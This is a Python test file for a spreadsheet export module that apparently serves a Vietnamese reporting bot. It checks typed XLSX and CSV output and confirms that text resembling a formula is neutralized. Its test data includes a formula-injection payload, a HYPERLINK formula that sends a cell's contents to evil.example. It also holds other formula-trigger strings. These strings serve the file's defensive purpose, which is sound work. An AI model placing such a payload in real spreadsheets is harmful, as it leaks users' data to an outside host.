"""The export engine on its own: typed XLSX and CSV files, read back with openpyxl and the
csv module, formula-looking text neutralized, the explanatory sheet, the progress bar."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from bot.export import (
    Column,
    ColumnType,
    ExportDocument,
    ProgressBar,
    Sheet,
    neutralize,
    write_atomically,
    write_csv,
    write_csv_zip,
    write_xlsx,
)

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
MOMENT = datetime(2026, 12, 14, 2, 5, tzinfo=UTC)  # 09:05 in Vietnam

COLUMNS = [
    Column("Tên cơ sở"),
    Column("Số lao động", ColumnType.INTEGER),
    Column("Điện năng (kWh/tấn)", ColumnType.DECIMAL),
    Column("Chi phí", ColumnType.MONEY),
    Column("Tiết kiệm", ColumnType.PERCENT),
    Column("Ngày", ColumnType.DATE),
    Column("Cập nhật", ColumnType.DATETIME),
]
ROWS: list[Sequence[object]] = [
    [
        "Cơ sở bún phở Tiết Kiệm",
        12,
        Decimal("1250.5"),
        1_500_000,
        Decimal("12.5"),
        date(2026, 12, 1),
        MOMENT,
    ],
    [HOSTILE, None, Decimal("-12.5"), 0, Decimal("-3"), None, None],
    ["-5", 3, Decimal("0.125"), 250_000, Decimal("100"), None, None],
    ["@SUM(1+1)", None, None, None, None, None, None],
    ["\tlệnh", None, None, None, None, None, None],
    ["+84 912 345 678", None, None, None, None, None, None],
    ["\rdòng", None, None, None, None, None, None],
]


def sheet(rows: Sequence[Sequence[object]] = ROWS, key: str = "data") -> Sheet:
    return Sheet(key, "Dữ liệu", "Các dòng thử", COLUMNS, iter(rows), total=len(rows))


def document(*sheets: Sheet) -> ExportDocument:
    return ExportDocument(
        title="Dữ liệu SXSH",
        created_at=MOMENT,
        facts=[("Năm báo cáo", "2026"), ("Xã/phường", "phường Tam Thanh")],
        sheets=list(sheets) or [sheet()],
        definitions=[("Đã báo cáo", "cơ sở đã bấm Gửi")],
    )


def test_xlsx_keeps_numbers_as_numbers_dates_as_dates_and_vietnamese_text(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    counts = write_xlsx(document(), path)
    assert counts == {"data": len(ROWS)}
    workbook = openpyxl.load_workbook(path)
    data = workbook["Dữ liệu"]
    assert [cell.value for cell in data[1]] == [column.header for column in COLUMNS]
    first = data[2]
    assert first[0].value == "Cơ sở bún phở Tiết Kiệm"
    assert first[1].value == 12 and first[1].data_type == "n"
    assert first[2].value == 1250.5
    assert first[3].value == 1_500_000 and "₫" in first[3].number_format
    assert first[4].value == pytest.approx(0.125) and first[4].number_format.endswith("%")
    assert first[5].value == datetime(2026, 12, 1)
    assert first[5].number_format == "dd/mm/yyyy"
    assert first[6].value == datetime(2026, 12, 14, 9, 5)  # Vietnam time
    second = data[3]
    assert second[1].value is None
    assert second[2].value == -12.5 and second[2].data_type == "n"


def test_xlsx_text_that_looks_like_a_formula_is_text_with_a_quote_prefix(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(document(), path)
    data = openpyxl.load_workbook(path)["Dữ liệu"]
    for row, expected in ((3, HOSTILE), (4, "-5"), (5, "@SUM(1+1)"), (6, "\tlệnh")):
        cell = data.cell(row=row, column=1)
        assert cell.value == expected
        assert cell.data_type == "s"
        assert cell.quotePrefix
    plain = data.cell(row=2, column=1)
    assert not plain.quotePrefix
    raw = zipfile.ZipFile(path).read("xl/worksheets/sheet2.xml").decode()
    assert "<f>" not in raw  # no formula anywhere in the data sheet


def test_xlsx_headers_are_frozen_filterable_and_columns_sized(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(document(), path)
    data = openpyxl.load_workbook(path)["Dữ liệu"]
    assert data.freeze_panes == "A2"
    assert data.auto_filter.ref == f"A1:G{len(ROWS) + 1}"
    assert data.column_dimensions["A"].width >= len("Cơ sở bún phở Tiết Kiệm")


def test_the_first_sheet_explains_the_filter_time_counts_and_definitions(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(document(), path)
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames[0] == "Thông tin"
    lines = [
        [value for value in row if value is not None]
        for row in workbook["Thông tin"].iter_rows(values_only=True)
    ]
    assert ["Thời điểm xuất", "14/12/2026 09:05 (giờ Việt Nam)"] in lines
    assert ["Xã/phường", "phường Tam Thanh"] in lines
    assert ["Dữ liệu", "7", "Các dòng thử"] in lines
    assert ["Đã báo cáo", "cơ sở đã bấm Gửi"] in lines
    assert ["Dữ liệu", "Tiết kiệm", "phần trăm"] in lines


def read_csv(raw: bytes) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_csv_has_a_bom_machine_numbers_and_neutralized_text(tmp_path: Path) -> None:
    path = tmp_path / "one.csv"
    assert write_csv(sheet(), path) == len(ROWS)
    rows = read_csv(path.read_bytes())
    assert rows[0] == [column.header for column in COLUMNS]
    assert rows[1] == [
        "Cơ sở bún phở Tiết Kiệm",
        "12",
        "1250.5",
        "1500000",
        "12.5",
        "2026-12-01",
        "2026-12-14 09:05",
    ]
    assert rows[2][0] == "'" + HOSTILE
    assert rows[2][2] == "-12.5" and rows[2][4] == "-3"  # negative numbers stay numbers
    assert [row[0] for row in rows[3:]] == [
        "'-5",
        "'@SUM(1+1)",
        "'\tlệnh",
        "'+84 912 345 678",
        "'\rdòng",
    ]


def test_several_sheets_go_into_a_zip_with_one_csv_each_and_the_explanation(
    tmp_path: Path,
) -> None:
    path = tmp_path / "all.zip"
    other = Sheet("other", "Khác", "Trang khác", [Column("Mã")], iter([["A"], ["B"]]))
    counts = write_csv_zip(document(sheet(), other), path)
    assert counts == {"data": len(ROWS), "other": 2}
    archive = zipfile.ZipFile(path)
    assert sorted(archive.namelist()) == ["00_thong_tin.csv", "01_data.csv", "02_other.csv"]
    assert read_csv(archive.read("02_other.csv")) == [["Mã"], ["A"], ["B"]]
    info = read_csv(archive.read("00_thong_tin.csv"))
    assert ["Khác", "2", "Trang khác"] in info


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("Tiết kiệm", "Tiết kiệm"),
        ("", ""),
    ],
)
def test_neutralize_prefixes_only_text_that_starts_like_a_formula(text: str, expected: str) -> None:
    assert neutralize(text) == expected


def test_control_characters_do_not_break_the_xlsx(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    rows = [["bún\x01 phở\x0b", 1, None, None, None, None, None]]
    write_xlsx(document(sheet(rows)), path)
    assert openpyxl.load_workbook(path)["Dữ liệu"]["A2"].value == "bún phở"


def test_a_failed_export_leaves_no_file_behind(tmp_path: Path) -> None:
    def broken_rows() -> Iterator[Sequence[object]]:
        yield ["ok", 1, None, None, None, None, None]
        raise RuntimeError("the database went away")

    path = tmp_path / "out.xlsx"
    broken = Sheet("data", "Dữ liệu", "", COLUMNS, broken_rows())
    with pytest.raises(RuntimeError):
        write_atomically(path, lambda partial: write_xlsx(document(broken), partial))
    assert list(tmp_path.iterdir()) == []


def test_an_excel_sheet_name_is_checked() -> None:
    with pytest.raises(ValueError, match="Excel"):
        Sheet("x", "Báo cáo: 2026/2027", "", [], iter([]))


def test_the_progress_bar_ends_each_sheet_on_one_line_when_not_a_terminal() -> None:
    stream = io.StringIO()
    bar = ProgressBar(stream, interactive=False)
    write_csv(sheet(), Path("/dev/null"), progress=bar)
    lines = stream.getvalue().splitlines()
    assert len(lines) == 1
    assert lines[0].startswith("Dữ liệu") and "100%" in lines[0] and "7/7" in lines[0]


def test_the_progress_bar_redraws_in_place_on_a_terminal() -> None:
    stream = io.StringIO()
    ticks = iter(range(100))
    bar = ProgressBar(stream, interactive=True, interval=0, clock=lambda: float(next(ticks)))
    bar.begin("Cơ sở", 2000)
    bar.advance(1000)
    bar.end(2000)
    text = stream.getvalue()
    assert text.count("\r") == 3 and text.endswith("\n")
    assert " 50% 1.000/2.000" in text and "100% 2.000/2.000" in text
